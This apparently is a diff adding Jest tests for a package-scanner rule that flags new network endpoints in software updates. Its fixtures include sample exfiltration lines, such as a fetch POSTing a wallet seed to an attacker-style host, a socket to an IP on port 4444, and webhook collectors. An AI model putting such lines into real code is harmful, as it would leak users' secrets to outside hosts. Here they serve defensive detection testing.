@@ -1,0 +1,134 @@
+import { describe, expect, it } from '@jest/globals'
+import { rule } from '../../../src/rules/content/new-endpoint.js'
+import type { Manifest } from '../../../src/types.js'
+import { makeChange, makeContext, makeFiles, makeManifest } from '../../helpers/factories.js'
+
+const OLD = 'export async function sign(seed) {\n  return derive(seed)\n}\n'
+const withLine = (line: string) =>
+  OLD.replace('  return derive(seed)', `${line}\n  return derive(seed)`)
+
+function changed(
+  oldFiles: Record<string, string>,
+  newFiles: Record<string, string>,
+  manifest?: Manifest
+) {
+  return makeContext({
+    files: makeFiles(newFiles),
+    previousFiles: makeFiles(oldFiles),
+    ...(manifest ? { manifest } : {})
+  })
+}
+
+async function run(line: string, manifest?: Manifest) {
+  return rule.check(changed({ 'index.js': OLD }, { 'index.js': withLine(line) }, manifest))
+}
+
+describe('content/new-endpoint', () => {
+  it('fires on a new fetch to a new host (xrpl shape), with evidence', async () => {
+    const findings = await run(
+      "  await fetch('https://0x9c.xyz/xc', { method: 'POST', body: seed })"
+    )
+    expect(findings).toHaveLength(1)
+    expect(findings[0]).toMatchObject({ ruleId: 'content/new-endpoint', severity: 'medium' })
+    expect(findings[0]?.message).toContain('0x9c.xyz')
+    expect(findings[0]?.evidence[0]).toMatchObject({ file: 'index.js', line: 2 })
+  })
+
+  it.each([
+    ['a raw IP', "  await fetch('http://203.0.113.7/c')", 'high'],
+    ['a quoted IP', "  net.connect(4444, '203.0.113.7')", 'high'],
+    ['an unusual port', "  const ws = new WebSocket('wss://relay.collector.xyz:4444')", 'high'],
+    [
+      'a request collector',
+      "  fetch('https://webhook.site/00000000-0000-0000-0000-000000000000')",
+      'high'
+    ],
+    [
+      'a keyed host name',
+      "  https.request({ hostname: 'data.collector.xyz', path: '/' })",
+      'medium'
+    ],
+    [
+      'a code-hosting link',
+      "  throw new Error('see https://github.com/other/project/issues')",
+      'low'
+    ]
+  ])('fires on %s', async (_name, line, severity) => {
+    const findings = await run(line)
+    expect(findings).toHaveLength(1)
+    expect(findings[0]?.severity).toBe(severity)
+  })
+
+  it("lowers the package's own homepage or repository site to low", async () => {
+    const manifest = makeManifest({ homepage: 'https://acme.dev', repository: 'acme/lib' })
+    const findings = await run("  await fetch('https://api.acme.dev/v2/sign')", manifest)
+    expect(findings[0]?.severity).toBe('low')
+  })
+
+  it('lists several new hosts in one finding, most severe first', async () => {
+    const findings = await run("  fetch('https://a.collector.xyz'); fetch('http://203.0.113.7/')")
+    expect(findings).toHaveLength(1)
+    expect(findings[0]?.severity).toBe('high')
+    expect(findings[0]?.message).toContain('2 new hosts: 203.0.113.7, a.collector.xyz')
+  })
+
+  it.each([
+    ['localhost', "  await fetch('http://localhost:3000/x')"],
+    ['a placeholder', "  const base = 'https://api.example.com'"],
+    ['a namespace', "  el.setAttribute('xmlns', 'http://www.w3.org/2000/svg')"],
+    ['a version number', "  const version = '1.2.3.4'"],
+    ['a comment', '  // docs: https://docs.collector.xyz/api'],
+    ['a JSDoc line', '   * @see https://docs.collector.xyz/api'],
+    ['a template host', '  fetch(`https://${region}.api/x`)']
+  ])('stays silent on %s', async (_name, line) => {
+    expect(await run(line)).toEqual([])
+  })
+
+  it('stays silent on a host the previous version already used, even elsewhere', async () => {
+    const previous = { 'index.js': OLD, 'lib/api.js': "const BASE = 'https://api.stripe.com/v1'\n" }
+    const next = {
+      'index.js': withLine("  await fetch('https://files.stripe.com/upload')"),
+      'lib/api.js': previous['lib/api.js']
+    }
+    expect(await rule.check(changed(previous, next))).toEqual([])
+  })
+
+  it('counts a host mentioned in the old README as known', async () => {
+    const previous = { 'index.js': OLD, 'README.md': 'Talks to https://api.acme.io.' }
+    const next = { 'index.js': withLine("  fetch('https://api.acme.io/x')"), 'README.md': '' }
+    expect(await rule.check(changed(previous, next))).toEqual([])
+  })
+
+  it('does not treat a new subdomain of a shared host as known', async () => {
+    const previous = { 'index.js': "fetch('https://acme.herokuapp.com')\n" }
+    const next = {
+      'index.js': "fetch('https://acme.herokuapp.com')\nfetch('https://evil.herokuapp.com')\n"
+    }
+    const findings = await rule.check(changed(previous, next))
+    expect(findings[0]?.message).toContain('evil.herokuapp.com')
+  })
+
+  it.each([
+    ['README.md', 'See https://docs.collector.xyz'],
+    ['test/api.test.js', "fetch('https://staging.collector.xyz')"],
+    ['index.d.ts', "/** https://docs.collector.xyz */ export declare const x: 'https://a.b.xyz'"],
+    ['index.js.map', '{"sources":["https://a.collector.xyz/src.js"]}']
+  ])('stays silent on a host only in %s', async (file, text) => {
+    expect(
+      await rule.check(changed({ 'index.js': OLD }, { 'index.js': OLD, [file]: text }))
+    ).toEqual([])
+  })
+
+  it.each([
+    ["fetch('https://api.acme.io/x')", 'info'],
+    ["fetch('http://203.0.113.7/x')", 'medium'],
+    ["fetch('https://webhook.site/x')", 'medium']
+  ])('reports an added package as a capability: %s -> %s', async (line, severity) => {
+    const ctx = makeContext({
+      change: makeChange({ previousVersion: null }),
+      files: makeFiles({ 'index.js': line })
+    })
+    const findings = await rule.check(ctx)
+    expect(findings[0]?.severity).toBe(severity)
+  })
+})
